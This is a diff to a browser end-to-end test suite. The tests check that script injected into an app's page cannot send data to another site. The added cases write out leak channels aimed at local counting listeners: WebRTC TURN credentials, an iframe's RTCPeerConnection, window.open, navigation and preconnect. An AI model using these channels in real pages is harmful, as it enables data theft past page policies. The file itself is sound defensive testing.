@@ -1,7 +1,7 @@
 // The power of another site, and of script that got into the app's page: next to none. docs/threat-model.md has the
 // rest, and this journey shows that the other site would hear of it.
 import { createServer } from 'node:http'
-import type { AddressInfo } from 'node:net'
+import { type AddressInfo, createServer as createListener } from 'node:net'
 import { expect, test } from '../support/journey.ts'
 import { hia } from '../support/releases.ts'
 
@@ -107,9 +107,86 @@ test('script in the page makes no markup or script of text, loads nothing and se
   expect(done).toEqual([])
   expect(site.asked).toEqual([])
 
-  // No policy stops the page from going there itself, with a secret in the address.
-  await page.evaluate((elsewhere) => location.assign(`${elsewhere}/carried-away`), site.address)
-  await expect(page).toHaveTitle('elsewhere')
-  expect(site.asked).toContain('/carried-away')
   await site.close()
+})
+
+/** A listener of another owner, that counts who calls and answers every one of them as a site. */
+async function startListener() {
+  let calls = 0
+  const server = createListener((socket) => {
+    calls++
+    socket.on('error', () => {})
+    socket.on('data', () => socket.end('HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 0\r\n\r\n'))
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  const { port } = server.address() as AddressInfo
+  return { port, calls: () => calls, close: () => void server.close() }
+}
+
+/** Ways in which script could tell another site something, in the page itself. Each throws where it is closed. */
+const ways: Readonly<Record<string, (port: number) => unknown>> = {
+  'a call by WebRTC': (port) => {
+    const urls = `turn:127.0.0.1:${port}?transport=tcp`
+    const call = new RTCPeerConnection({ iceServers: [{ urls, username: 'secret', credential: 'x' }] })
+    call.createDataChannel('x')
+    void call.setLocalDescription()
+  },
+  'WebRTC of an inner document': (port) => {
+    const frame = document.documentElement.appendChild(document.createElement('iframe'))
+    const { RTCPeerConnection: Call } = frame.contentWindow as Window & typeof globalThis
+    const urls = `turn:127.0.0.1:${port}?transport=tcp`
+    const call = new Call({ iceServers: [{ urls, username: 'secret', credential: 'x' }] })
+    call.createDataChannel('x')
+    void call.setLocalDescription()
+  },
+  'a window': (port) => void open(`http://127.0.0.1:${port}/secret`),
+  // Chromium asks the page first, and does not go.
+  'going there': (port) => location.assign(`http://127.0.0.1:${port}/secret`),
+}
+/** No header and no script closes this one: an address can be called before anything is asked of it. */
+const preconnect = (port: number) => {
+  const link = document.createElement('link')
+  Object.assign(link, { rel: 'preconnect', href: `http://127.0.0.1:${port}` })
+  document.documentElement.append(link)
+}
+
+test('the ways out that no header closes are taken away before other script runs, but for one', async ({
+  service,
+  tablet,
+}) => {
+  const page = await tablet.setUp(hia)
+  for (const [name, way] of Object.entries(ways)) {
+    await test.step(name, async () => {
+      const [closed, open, later] = [await startListener(), await startListener(), await startListener()]
+      await page.evaluate(way, closed.port).catch(() => {})
+      await page.evaluate(preconnect, later.port)
+      await expect.poll(later.calls).toBeGreaterThan(0)
+      expect(closed.calls()).toBe(0)
+      expect(new URL(page.url()).origin).toBe(service.address)
+
+      // The control: an address of the same service with the same headers, and without the app's script.
+      const bare = await tablet.context().newPage()
+      await bare.goto(`${service.address}/healthz`)
+      await bare.evaluate(way, open.port).catch(() => {})
+      await expect.poll(open.calls).toBeGreaterThan(0)
+      await bare.close()
+      for (const each of [closed, open, later]) each.close()
+    })
+  }
+})
+
+test('workers have no connection but those that the policy closes', async ({ tablet }) => {
+  const page = await tablet.setUp(hia)
+  // The worker that has the key files open.
+  const names = await Promise.all(
+    page
+      .workers()
+      .map((worker) =>
+        worker.evaluate(() =>
+          ['RTCPeerConnection', 'RTCDataChannel', 'WebTransport'].filter((name) => Reflect.get(globalThis, name)),
+        ),
+      ),
+  )
+  expect(names.length).toBeGreaterThan(0)
+  expect(names.flat()).toEqual([])
 })
